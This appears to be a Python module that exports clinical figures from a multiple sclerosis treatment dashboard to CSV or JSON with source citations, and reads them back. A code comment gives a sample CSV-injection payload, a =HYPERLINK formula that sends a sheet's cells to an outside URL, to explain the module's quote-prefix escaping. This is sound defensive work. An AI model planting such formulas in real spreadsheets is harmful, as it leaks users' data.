"""Every sourced number as one flat record, written as CSV or JSON and read back (docs/export-format.md).

One record per item of `Knowledge.figures()`, in the same order: adverse-event rows (both arms), benefits, PML strata
and the figures inside statements. Each record carries its source, the place in it, its evidence type and the
knowledge version, so a row can be checked and cited on its own."""
from __future__ import annotations

import csv
import io
import json
from dataclasses import asdict, dataclass, fields
from pathlib import Path
from typing import Iterable

from dashboard.knowledge import Knowledge, statements_of
from dashboard.knowledge.models import AdverseEvent, Benefit, Figure, PmlStratum, Statement, Topic, Treatment

FORMAT, FORMAT_VERSION = "ms-dashboard-figures", 1
KINDS = ("adverse_event", "benefit", "pml_stratum", "figure")
PRIOR = {True: "with prior immunosuppressant", False: "no prior immunosuppressant", None: ""}


@dataclass(frozen=True)
class Record:
    """One figure. Column order here is the CSV's column order; None is an empty CSV cell and JSON null."""

    knowledge_version: str
    released: str  # ISO date of the knowledge release
    owner_type: str  # "treatment" or "topic"
    treatment: str  # the treatment's (or topic's) id
    treatment_name: str
    last_reviewed: str  # ISO date the treatment (or topic) was last checked against its sources
    kind: str  # one of KINDS
    label: str
    event: str | None  # adverse events: the event id
    trial: str | None  # adverse events and benefits: the trial id
    trial_name: str | None
    comparator: str | None  # the comparator arm, in the trial's words
    value: float | None  # the treatment arm (adverse events, benefits), the rate (PML), the figure's value; benefits
    # that the source gives only as a relative figure have none
    comparator_value: float | None
    high: float | None  # upper end where the figure is a range
    unit: str
    count: int | None
    n: int | None
    comparator_count: int | None
    comparator_n: int | None
    ci_low: float | None
    ci_high: float | None
    ci_of: str | None  # what the interval belongs to, where it is not the value itself
    less_than: bool | None  # PML strata: the source says "fewer than value"
    relative_reduction_pct: float | None
    absolute_difference: float | None
    region: str | None  # US, EU or all
    context: str | None  # the statement a figure belongs to (clinician words), or the PML stratum's group
    source_id: str
    source_title: str
    source_url: str
    source_type: str
    source_version: str | None
    source_copy_of: str | None
    locator: str
    evidence_type: str


COLUMNS = tuple(f.name for f in fields(Record))
_TYPES = {f.name: f.type for f in fields(Record)}


def _parents(owner: Treatment | Topic) -> dict[int, Statement | Benefit]:
    """The statement (or benefit) each figure of an owner stands in, by the figure's identity."""
    holders: Iterable[Statement | Benefit]
    holders = (*statements_of(owner), *owner.benefits) if isinstance(owner, Treatment) else owner.statements
    return {id(f): holder for holder in holders for f in holder.figures}


def records(knowledge: Knowledge, treatment_ids: Iterable[str] | None = None) -> list[Record]:
    """The figures of these treatments (every treatment and topic when None), in `Knowledge.figures()` order."""
    wanted = None if treatment_ids is None else set(treatment_ids)
    site, parents, found = knowledge.site, {}, []
    for owner, item in knowledge.figures():
        is_treatment = isinstance(owner, Treatment)
        if wanted is not None and not (is_treatment and owner.id in wanted):
            continue
        if owner.id not in parents:
            parents[owner.id] = _parents(owner)
        base = dict(knowledge_version=site.knowledge_version, released=site.released.isoformat(),
                    owner_type="treatment" if is_treatment else "topic", treatment=owner.id,
                    treatment_name=owner.name if is_treatment else owner.title,
                    last_reviewed=owner.last_reviewed.isoformat())
        found.append(_record(knowledge, owner, item, parents[owner.id], base))
    return found


def _empty() -> dict:
    return dict.fromkeys(COLUMNS)


def _record(knowledge: Knowledge, owner, item, parents: dict, base: dict) -> Record:
    values = _empty() | base
    evidence = None
    if isinstance(item, AdverseEvent):
        trial = owner.trial(item.trial)
        values |= dict(kind="adverse_event", label=knowledge.events[item.event].label, event=item.event,
                       trial=trial.id, trial_name=trial.name, comparator=trial.comparator, value=item.treatment_pct,
                       comparator_value=item.comparator_pct, unit="%", count=item.treatment_count, n=trial.n_treatment,
                       comparator_count=item.comparator_count, comparator_n=trial.n_comparator,
                       absolute_difference=item.difference, context=item.reason)
    elif isinstance(item, Benefit):
        trial = owner.trial(item.trial)
        values |= dict(kind="benefit", label=item.outcome, trial=trial.id, trial_name=trial.name,
                       comparator=trial.comparator, value=item.treatment_value, comparator_value=item.comparator_value,
                       unit=item.unit, n=trial.n_treatment, comparator_n=trial.n_comparator, ci_low=item.ci_low,
                       ci_high=item.ci_high, ci_of=item.ci_of, relative_reduction_pct=item.relative_reduction_pct,
                       absolute_difference=item.absolute_difference)
    elif isinstance(item, PmlStratum):
        group = ", ".join(p for p in (item.antibody, PRIOR[item.prior_immunosuppressant]) if p)
        values |= dict(kind="pml_stratum", label=f"{group}, {item.exposure}", value=item.per_1000,
                       unit="per 1,000 patients", ci_low=item.ci_low, ci_high=item.ci_high, less_than=item.less_than,
                       region=item.region, context=group)
    elif isinstance(item, Figure):
        parent = parents.get(id(item))
        region = getattr(parent, "region", None)
        values |= dict(kind="figure", label=item.label, value=item.value, high=item.high, unit=item.unit,
                       count=item.count, n=item.n, ci_low=item.ci_low, ci_high=item.ci_high, region=region,
                       context=getattr(parent, "clinician", None))
        own = getattr(parent, "evidence", None)
        evidence = own if own and parent.source == item.source else None
    else:  # pragma: no cover  a new kind of figure must be added here and to docs/export-format.md
        raise TypeError(f"unknown figure type {type(item).__name__}")
    source = knowledge.source(item.source)
    values |= dict(source_id=source.id, source_title=source.title, source_url=source.url, source_type=source.type,
                   source_version=source.version, source_copy_of=source.copy_of, locator=item.locator,
                   evidence_type=evidence or source.type)
    return Record(**values)


# ---- writing ----

# A spreadsheet runs a cell that starts with one of these as a formula ("CSV injection": a figure label
# =HYPERLINK("https://...?"&A1) would send the sheet's cells away when clicked). OWASP's advice: put a single quote in
# front, so the cell is shown as text. Only text cells: numbers are written by _cell and stay numbers (-0.5).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(text: str) -> str:
    """A text cell a spreadsheet shows as text. Text that already starts with quotes before a formula character
    gets one more, so that `csv_text` gives back exactly what was written in data/."""
    return "'" + text if text.lstrip("'").startswith(FORMULA_STARTS) else text


def csv_text(cell: str) -> str:
    """The text a `csv_cell` was made from."""
    return cell[1:] if cell.startswith("'") and cell.lstrip("'").startswith(FORMULA_STARTS) else cell


def _cell(value) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        return str(int(value)) if value.is_integer() and abs(value) < 1e15 else repr(value)  # exact, shortest
    if isinstance(value, int):
        return str(value)
    return csv_cell(str(value))


def to_csv(found: list[Record]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")  # RFC 4180: a line break inside a text cell is then quoted
    writer.writerow(COLUMNS)
    for record in found:
        writer.writerow(_cell(getattr(record, c)) for c in COLUMNS)
    return out.getvalue()


def to_json(knowledge: Knowledge, found: list[Record], treatment_ids: Iterable[str] | None = None) -> str:
    document = {
        "format": FORMAT, "format_version": FORMAT_VERSION,
        "knowledge_version": knowledge.site.knowledge_version, "released": knowledge.site.released.isoformat(),
        "treatments": None if treatment_ids is None else list(treatment_ids),
        "columns": list(COLUMNS),
        "figures": [asdict(r) for r in found],
    }
    return json.dumps(document, ensure_ascii=False, separators=(",", ":")) + "\n"


def export(knowledge: Knowledge, fmt: str, treatment_ids: Iterable[str] | None = None) -> str:
    """The figures as the text of a CSV or JSON file."""
    ids = None if treatment_ids is None else list(treatment_ids)
    found = records(knowledge, ids)
    return to_csv(found) if fmt == "csv" else to_json(knowledge, found, ids)


# ---- reading back ----

def _typed(name: str, text: str):
    if text == "":
        return None
    kind = _TYPES[name]
    if "bool" in kind:
        return text == "true"
    if "int" in kind:
        return int(text)
    if "float" in kind:
        return float(text)
    return csv_text(text)


def read_csv(text: str) -> list[Record]:
    reader = csv.reader(io.StringIO(text))
    header = next(reader)
    if tuple(header) != COLUMNS:
        raise ValueError(f"unexpected columns {header}, expected {list(COLUMNS)}")
    return [Record(**{c: _typed(c, v) for c, v in zip(COLUMNS, row)}) for row in reader]


def read_json(text: str) -> list[Record]:
    document = json.loads(text)
    if document.get("format") != FORMAT:
        raise ValueError(f"not a {FORMAT} file")
    found = []
    for row in document["figures"]:
        values = {c: row[c] for c in COLUMNS}
        for name in ("value", "comparator_value", "high", "ci_low", "ci_high", "relative_reduction_pct", "absolute_difference"):
            if isinstance(values[name], int) and not isinstance(values[name], bool):
                values[name] = float(values[name])
        found.append(Record(**values))
    return found


def read(path: Path) -> list[Record]:
    """The records of an exported file, by its extension."""
    with open(path, encoding="utf-8", newline="") as file:  # line breaks inside cells as written
        text = file.read()
    return read_json(text) if Path(path).suffix == ".json" else read_csv(text)

